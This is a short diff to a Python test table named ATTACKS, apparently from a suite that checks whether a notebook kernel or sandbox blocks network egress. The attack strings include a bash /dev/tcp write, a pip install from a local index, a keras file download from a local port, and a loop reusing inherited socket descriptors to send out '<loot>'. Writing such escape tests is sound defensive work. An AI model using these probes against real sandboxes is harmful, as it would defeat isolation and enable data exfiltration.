@@ -39,7 +39,7 @@ ATTACKS = {
         "!bash -c 'echo x > /dev/tcp/127.0.0.1/<tcp>'\n!pip install --index-url http://127.0.0.1:<tcp> six2",
         "timeout|answered",
     ),
-    "a data set": Attack("from tensorflow import keras; keras.datasets.mnist.load_data(); print(<loot>)", "error"),
+    "a data set": Attack("from tensorflow import keras; keras.utils.get_file('x', 'http://127.0.0.1:<tcp>/x')"),
     "the kernel's own sockets reused": Attack(
         "import os, socket\nfor n in range(3, 200):\n"
         "    try: s = socket.socket(fileno=os.dup(n)); s.connect(<path>); print(<loot>)\n    except OSError: pass",
